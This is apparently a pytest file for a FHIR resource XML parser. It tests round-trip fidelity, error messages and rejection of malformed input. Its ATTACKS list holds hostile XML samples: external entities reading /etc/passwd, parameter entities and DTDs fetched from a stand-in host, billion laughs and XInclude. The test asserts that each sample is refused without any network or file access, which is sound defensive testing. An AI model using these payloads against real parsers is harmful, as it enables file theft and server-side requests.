"""The XML form of resources: both ways without loss, and nothing read but the body (C1)."""

from __future__ import annotations

import socket
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from interop.fhir import json
from interop.fhir.definitions import definitions
from interop.fhir.xml import FHIR, MalformedXml, from_xml, to_xml

SHARED = Path(__file__).parents[5] / "shared/fhir"
EXAMPLES = SHARED / "examples"
DENTAL = SHARED / "igs/dental-data-exchange"
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
WITH_COMMENT = f"<div {XHTML}>a<br/>b &#160;<!-- c --></div>"


def in_order(value: Any) -> Any:
    """The same with the members of each object by name, so that bytes can be compared."""
    if isinstance(value, dict):
        return {key: in_order(value[key]) for key in sorted(value)}
    if isinstance(value, list):
        return [in_order(item) for item in value]
    return value


def packed(resource: Any) -> bytes:
    return json.dumps(in_order(resource))


def official() -> list[Any]:
    found = []
    for path in sorted(EXAMPLES.glob("*.json")) if EXAMPLES.is_dir() else []:
        resource = json.loads(path.read_bytes())
        if resource.get("resourceType") in definitions().resource_types:
            found.append(pytest.param(resource, id=path.stem))
    return found


@pytest.mark.skipif(not EXAMPLES.is_dir(), reason="no official examples at hand")
@pytest.mark.parametrize("resource", official())
def test_official_examples_come_back_from_xml_digit_for_digit(resource: dict[str, Any]) -> None:
    plain, pretty = to_xml(resource), to_xml(resource, pretty=True)

    assert packed(from_xml(plain)) == packed(resource)
    assert packed(from_xml(pretty)) == packed(resource)
    assert ElementTree.fromstring(plain).tag == f"{{{FHIR}}}{resource['resourceType']}"


@pytest.mark.skipif(not DENTAL.is_dir(), reason="no Dental Data Exchange files at hand")
def test_xml_of_others_is_read_and_comes_back() -> None:
    files = sorted(DENTAL.glob("**/*.xml"))
    assert len(files) > 50

    for path in files:
        resource = from_xml(path.read_bytes())
        assert from_xml(to_xml(resource)) == resource, path.name


def test_order_attributes_and_namespaces_are_those_of_the_page() -> None:
    resource = json.loads(
        b'{"resourceType":"Patient","birthDate":"1980","_birthDate":{"id":"b","extension":[{"url":'
        b'"urn:x","valueDecimal":1.50}]},"active":true,"name":[{"given":["A",null],"_given":[null,'
        b'{"extension":[{"url":"urn:y","valueCode":"z"}]}],"id":"n"}],"id":"1","text":{"status":'
        b'"generated","div":"<div xmlns=\\"http://www.w3.org/1999/xhtml\\">a &amp; b</div>"},'
        b'"contained":[{"resourceType":"Basic","id":"c","code":{"text":"a \\"b\\" <c>\\n"}}]}'
    )

    assert to_xml(resource).decode() == (
        '<?xml version="1.0" encoding="UTF-8"?><Patient xmlns="http://hl7.org/fhir"><id value="1"/>'
        f'<text><status value="generated"/><div {XHTML}>a &amp; b</div></text>'
        '<contained><Basic><id value="c"/><code><text value="a &quot;b&quot; &lt;c&gt;&#10;"/>'
        "</code></Basic></contained>"
        '<active value="true"/><name id="n"><given value="A"/><given>'
        '<extension url="urn:y"><valueCode value="z"/></extension></given></name>'
        '<birthDate id="b" value="1980"><extension url="urn:x"><valueDecimal value="1.50"/>'
        "</extension></birthDate></Patient>"
    )
    assert packed(from_xml(to_xml(resource))) == packed(resource)


@pytest.mark.parametrize(
    ("div", "kept"),
    [
        (WITH_COMMENT, WITH_COMMENT),
        (f"<div {XHTML}/>", f"<div {XHTML}/>"),
        (
            '<h:div><h:p title="&lt;">a &amp; b<h:br/><h:p/></h:p></h:div>',
            f'<div {XHTML}><p title="&lt;">a &amp; b<br/><p/></p></div>',
        ),
        (f'<div {XHTML} title="a>b"/>', f'<div {XHTML} title="a&gt;b"/>'),
    ],
)  # fmt: skip
def test_narratives_are_kept_as_they_stand(div: str, kept: str) -> None:
    body = (
        f'<Patient xmlns="{FHIR}" xmlns:h="http://www.w3.org/1999/xhtml"><text>'
        f'<status value="generated"/>{div}</text></Patient>'
    )

    assert from_xml(body.encode())["text"]["div"] == kept


def patient(inside: str) -> str:
    return f'<Patient xmlns="{FHIR}">{inside}</Patient>'


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ATTACKS = [
    ("an external entity",
     '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + patient('<id value="&e;"/>')),
    ("an entity of another host",
     '<!DOCTYPE x [<!ENTITY e SYSTEM "http://dns.sink.invalid/e">]>' + patient("<id>&e;</id>")),
    ("a parameter entity",
     '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://dns.sink.invalid/e.dtd"> %e;]>' + patient("")),
    ("an external document type",
     '<!DOCTYPE Patient SYSTEM "http://dns.sink.invalid/fhir.dtd">' + patient("")),
    ("a billion laughs",
     f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>' + patient('<id value="&l9;"/>')),
    ("an entity that nobody declared", patient('<id value="&nbsp;"/>')),
    ("XInclude", patient('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                         'href="file:///etc/passwd" parse="text"/>')),
    ("XSLT by instruction",
     '<?xml-stylesheet type="text/xsl" href="http://dns.sink.invalid/x.xsl"?>' + patient("")),
    ("XSLT as document",
     '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>'),
    ("a schema of another namespace", patient('<x:id xmlns:x="urn:x" value="1"/>')),
    ("no namespace", '<Patient><id value="1"/></Patient>'),
    ("the namespace of XHTML", '<Patient xmlns="http://www.w3.org/1999/xhtml"/>'),
    ("a document type in a narrative",
     patient(f'<text><status value="generated"/><div {XHTML}><!DOCTYPE a></div></text>')),
    ("an instruction in a narrative",
     patient(f'<text><status value="generated"/><div {XHTML}><?php x ?></div></text>')),
    ("depth", patient("<extension>" * 5000 + "</extension>" * 5000)),
    ("depth of a narrative", patient(
        f'<text><div {XHTML}>{"<b>" * 5000}{"</b>" * 5000}</div></text>')),
    ("UTF-16", patient('<id value="1"/>').encode("utf-16")),
    ("a declared encoding that it has not",
     '<?xml version="1.0" encoding="UTF-7"?>' + patient('<id value="+ADw-"/>') + "<"),
    ("a lone surrogate", patient('<id value="&#xD800;"/>')),
    ("a control character", patient('<id value="&#0;"/>')),
    ("nothing", ""),
    ("JSON", '{"resourceType":"Patient"}'),
    ("two documents", patient("") + patient("")),
    ("text", patient("text")),
    ("an unknown element", patient('<nonsense value="1"/>')),
    ("an unknown attribute", patient('<id value="1" onclick="x"/>')),
    ("an unknown resource", f'<Nonsense xmlns="{FHIR}"/>'),
    ("an element twice", patient('<gender value="male"/><gender value="female"/>')),
    ("an attribute as an element", patient('<name><id value="1"/></name>')),
    ("a value of a complex element", patient('<name value="1"/>')),
    ("a number that is none", f'<Observation xmlns="{FHIR}"><valueQuantity><value value="1,5"/>'
     "</valueQuantity></Observation>"),
    ("NaN", f'<Observation xmlns="{FHIR}"><valueQuantity><value value="NaN"/></valueQuantity>'
     "</Observation>"),
    ("a huge number", f'<Observation xmlns="{FHIR}"><valueQuantity><value value="1e999"/>'
     "</valueQuantity></Observation>"),
    ("a boolean that is none", patient('<active value="TRUE"/>')),
    ("two resources in one place", patient(
        "<contained><Basic><id value='1'/></Basic><Basic><id value='2'/></Basic></contained>")),
    ("an empty element", patient("<name/>")),
]  # fmt: skip


@pytest.mark.parametrize("body", [case[1] for case in ATTACKS], ids=[case[0] for case in ATTACKS])
def test_what_is_not_the_xml_of_a_resource_is_refused_and_asks_nobody(
    body: str | bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[object] = []
    for name in ("getaddrinfo", "create_connection"):
        monkeypatch.setattr(socket, name, lambda *given, **_: asked.append(given))
    monkeypatch.setattr("builtins.open", lambda *given, **_: asked.append(given))

    with pytest.raises(MalformedXml) as raised:
        from_xml(body.encode() if isinstance(body, str) else body)

    assert raised.value.http_status == 400
    assert raised.value.issue_code == "structure"
    assert raised.value.diagnostics
    assert asked == []


def test_errors_say_where() -> None:
    body = patient('\n  <name>\n    <family value="a"/>\n    <nonsense value="1"/></name>')

    with pytest.raises(MalformedXml) as raised:
        from_xml(body.encode())

    assert "line 4, column 5, at Patient.name[0].nonsense" in raised.value.diagnostics
    assert raised.value.expression == "Patient.name[0].nonsense"
    assert "accepted: extension, use, text, family" in raised.value.diagnostics


def test_a_schema_location_is_let_pass() -> None:
    body = (
        f'<Patient xmlns="{FHIR}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="http://hl7.org/fhir p.xsd"><!-- c --><id value="1"/></Patient>'
    )

    assert from_xml(body.encode()) == {"resourceType": "Patient", "id": "1"}


# -- whatever R4 can say ----------------------------------------------------------------------

TEXT = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff")
    | st.sampled_from("\n\t\r\"'<>&"),
    min_size=1,
    max_size=20,
)
NUMBERS = st.from_regex(
    r"-?(0|[1-9][0-9]{0,17})(\.[0-9]{1,18})?([eE][+-]?[0-9]{1,2})?", fullmatch=True
)


def primitive(type_: str) -> st.SearchStrategy[Any]:
    if type_ == "boolean":
        return st.booleans()
    if type_ in ("integer", "unsignedInt", "positiveInt"):
        return st.integers(-(2**31), 2**31 - 1)
    if type_ == "decimal":
        return NUMBERS.map(json.number)
    if type_ == "xhtml":
        return TEXT.map(
            lambda text: f"<div {XHTML}>{ElementTree.tostring(_span(text)).decode()}</div>"
        )
    return TEXT


def _span(text: str) -> ElementTree.Element:
    made = ElementTree.Element("p")
    made.text = text
    return made


EXTENSION = st.fixed_dictionaries(
    {"url": st.just("urn:x")}, optional={"valueDecimal": NUMBERS.map(json.number)}
)
BESIDE = st.fixed_dictionaries({"extension": st.lists(EXTENSION, min_size=1, max_size=2)})


@st.composite
def objects(draw: st.DrawFn, type_: str, depth: int = 0) -> dict[str, Any]:
    """An object of a type with some of its elements, valid for its shape alone."""
    tables = definitions()
    resource = type_ in tables.resource_types
    made: dict[str, Any] = {"resourceType": type_} if resource else {}
    elements = sorted(tables.types[type_])
    for name in draw(st.lists(st.sampled_from(elements), min_size=1, max_size=4, unique=True)):
        element = tables.types[type_][name]
        key, of = draw(st.sampled_from(element.keys()))
        count = draw(st.integers(1, 3)) if element.is_list else 1
        if tables.is_primitive(of):
            values = [draw(primitive(of)) for _ in range(count)]
            made[key] = values if element.is_list else values[0]
            if draw(st.booleans()) and of != "xhtml" and key != "url" and (key != "id" or resource):
                besides = [draw(st.none() | BESIDE) for _ in range(count)]
                if any(besides):
                    made["_" + key] = besides if element.is_list else besides[0]
        elif of == "Resource" or depth > 4 or not tables.types.get(of):
            continue
        else:
            inner = [draw(objects(of, depth + 1)) for _ in range(count)]
            if all(inner):
                made[key] = inner if element.is_list else inner[0]
    return made


RESOURCES = st.sampled_from(sorted(definitions().resource_types)).flatmap(objects)


@settings(max_examples=40, deadline=None)
@given(resource=RESOURCES)
def test_whatever_a_resource_holds_comes_back(resource: dict[str, Any]) -> None:
    xml = to_xml(resource)

    assert packed(from_xml(xml)) == packed(resource)
    assert packed(from_xml(to_xml(resource, pretty=True))) == packed(resource)
    assert packed(json.loads(json.dumps(resource))) == packed(resource)
    ElementTree.fromstring(xml)
